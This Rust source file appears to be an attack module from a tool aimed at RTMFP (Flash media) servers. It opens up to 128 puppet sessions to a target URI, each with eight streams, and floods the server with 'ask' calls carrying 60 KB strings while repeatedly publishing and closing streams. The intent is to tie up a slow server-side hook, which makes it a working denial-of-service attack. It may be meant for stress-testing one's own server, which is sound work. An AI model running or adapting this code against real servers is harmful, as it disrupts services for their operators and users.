//! Clients that have the server ask its hook without end, which is slow: they call methods with values as
//! large as are asked about, and begin and end to publish.

use super::amf::send_whole;
use super::line::Line;
use super::packets::{command, metadata};
use super::puppet::{CONTROL, Puppets};
use super::{Attack, Setting};
use rtmfp::amf::Value;
use rtmfp::proto::crypto::Negotiation;
use rtmfp::proto::flash::FlowMetadata;
use std::time::Duration;

const SESSIONS: usize = 128;
/// NetStreams of a client.
const STREAMS: u32 = 8;
/// The flow of the first.
const FIRST: u64 = 3;
/// Of so many messages one begins or ends to publish.
const PUBLISH: usize = 4;
/// Bytes of a call's text: with the rest of the call it may be asked.
const TEXT: usize = 60 << 10;

pub(super) struct Hook {
    puppets: Puppets,
    call: Vec<u8>,
    /// The next sequence numbers of each: of the NetConnection, and of its streams.
    sequences: Vec<(u64, u64)>,
    next: usize,
}

impl Hook {
    pub(super) fn prepare(setting: &Setting, line: &mut Line) -> anyhow::Result<Self> {
        let (offer, count) = (Negotiation::default(), setting.sessions.unwrap_or(SESSIONS));
        let mut puppets = Puppets::connect(line, &setting.uri, (count, 1), &offer)?;
        for number in 0..STREAMS {
            let create = command("createStream", f64::from(number) + 2.0, Vec::new())?;
            for puppet in &mut puppets.all {
                let packet = puppet.message(CONTROL, 2 + u64::from(number), None, &create);
                line.send(puppet.at, &packet);
            }
            for _ in 0..10 {
                puppets.serve(line)?;
                std::thread::sleep(Duration::from_millis(5));
            }
        }
        let text = Value::from("a".repeat(TEXT));
        let call = command("ask", 7.0, vec![text])?;
        let sequences = vec![(2 + u64::from(STREAMS), 1); puppets.all.len()];
        Ok(Self { puppets, call, sequences, next: 0 })
    }
}

impl Attack for Hook {
    fn sessions(&self) -> usize {
        self.puppets.all.len()
    }

    fn burst(&mut self, line: &mut Line) -> anyhow::Result<()> {
        let index = self.next % self.puppets.all.len();
        let turn = self.next / self.puppets.all.len();
        self.next += 1;
        let puppet = &mut self.puppets.all[index];
        let (control, of_streams) = &mut self.sequences[index];
        if !turn.is_multiple_of(PUBLISH) {
            send_whole(line, puppet, (CONTROL, control), None, &self.call);
            self.puppets.serve(line)?;
            return Ok(());
        }
        // All streams in turn: they begin, then they end.
        let sequence = *of_streams;
        *of_streams += 1;
        let ends = sequence.is_multiple_of(2);
        for stream in 1..=STREAMS {
            let name = Value::from(format!("attack{index}-{stream}"));
            let request = match ends {
                true => command("closeStream", 0.0, Vec::new())?,
                false => command("publish", 0.0, vec![name, Value::from("live")])?,
            };
            let options = metadata(FlowMetadata::tc(stream), puppet.back);
            let mut at = sequence;
            let flow = FIRST + u64::from(stream) - 1;
            send_whole(line, puppet, (flow, &mut at), Some(&options), &request);
        }
        self.puppets.serve(line)?;
        Ok(())
    }
}
